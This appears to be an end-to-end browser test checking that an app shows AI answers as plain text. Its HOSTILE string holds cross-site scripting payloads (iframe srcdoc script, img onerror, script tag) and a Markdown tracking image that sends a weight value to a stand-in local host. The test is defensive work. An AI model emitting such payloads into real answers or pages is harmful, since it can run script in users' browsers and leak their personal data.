"""An AI answer is text, whatever it holds: raw HTML in it (an iframe whose
srcdoc runs script, an image whose onerror does, a script element) and a
Markdown image pointing elsewhere become no elements, run nothing and load
nothing, while the words around them still show, streamed and saved."""

from __future__ import annotations

import pytest
from playwright.sync_api import Page, expect

from tests.e2e.ai import test_analysis
from tests.e2e.ai.test_analysis import run_with_consent, set_provider
from tests.e2e.conftest import create_account
from tests.fake_ai_provider import Reply

pytestmark = pytest.mark.e2e
fake = test_analysis.fake

HOSTILE = (
    "Your weight is steady.\n\n"
    "<iframe srcdoc=\"<script>parent.window.__hostile = 'iframe'</script>\"></iframe>\n\n"
    "<img src=x onerror=\"window.__hostile = 'img'\">\n\n"
    "<script>window.__hostile = 'script'</script>\n\n"
    "![tracker](http://127.0.0.1:9/pixel.png?weight=80)\n\n"
    "Keep going."
)


def _shows_text_only(page: Page, selector: str) -> None:
    shown = page.locator(selector)
    expect(shown).to_contain_text("Your weight is steady.")
    expect(shown).to_contain_text("Keep going.")
    # The HTML is shown as written, not made into elements.
    expect(shown).to_contain_text("<iframe srcdoc=")
    for tag in ("iframe", "img", "script"):
        expect(shown.locator(tag)).to_have_count(0)
    page.wait_for_timeout(500)  # time for an onerror or a frame's script to fire
    assert page.evaluate("window.__hostile") is None


def test_hostile_html_in_an_answer_runs_nothing(app, page: Page, fake, unique_email):
    create_account(app, "admin-" + unique_email, role="admin")
    set_provider(app, fake, "admin-" + unique_email)
    account = create_account(app, unique_email)
    fake.enqueue(Reply(HOSTILE))
    requested: list[str] = []
    page.on("request", lambda request: requested.append(request.url))
    run_with_consent(page, app, account)
    expect(page.get_by_text("Saved in the history.")).to_be_visible(timeout=20_000)
    _shows_text_only(page, "#analysis-result")

    history = page.get_by_role("main").get_by_role("listitem")
    history.first.get_by_role("button", name="Open").click()
    expect(history.first.get_by_text("Keep going.")).to_be_visible()
    _shows_text_only(page, "[role=list]")
    assert not [url for url in requested if "pixel.png" in url]
